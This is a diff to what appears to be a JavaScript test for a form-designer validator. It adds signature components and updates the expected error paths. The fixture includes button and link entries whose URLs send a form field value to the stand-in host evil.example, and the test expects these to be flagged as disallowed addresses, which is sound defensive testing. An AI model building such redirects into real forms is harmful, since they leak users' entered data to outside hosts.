@@ -110,6 +110,8 @@ describe('what partners will be refused is told to the designer', () => {
       },
       { type: 'upload', attr: { api: '/api/Annex/Take' } },
       { type: 'upload' },
+      { type: 'signature' },
+      { type: 'signature', attr: { api: '/api/Annex/Take' } },
       { type: 'button', event: { click: [{ do: 'go', url: 'https://evil.example/?q=${note}' }] } },
       { type: 'button', event: { click: [{ do: 'go', url: `/custompage/detail?formId=${shared}` }] } },
       { type: 'link', attr: { src: 'https://evil.example/?q=${note}' } },
@@ -119,8 +121,9 @@ describe('what partners will be refused is told to the designer', () => {
       ['body.0.attr.api', 'PARTNER_REFUSED', 'suppliers'],
       ['body.0.attr.script', 'PARTNER_REFUSED', 'materials'],
       ['body.1.attr.api', 'PARTNER_UPLOAD'],
-      ['body.3.event.click.0.url', 'PARTNER_ADDRESS'],
-      ['body.5.attr.src', 'PARTNER_ADDRESS'],
+      ['body.4.attr.api', 'PARTNER_UPLOAD'],
+      ['body.5.event.click.0.url', 'PARTNER_ADDRESS'],
+      ['body.7.attr.src', 'PARTNER_ADDRESS'],
     ])
   })
 
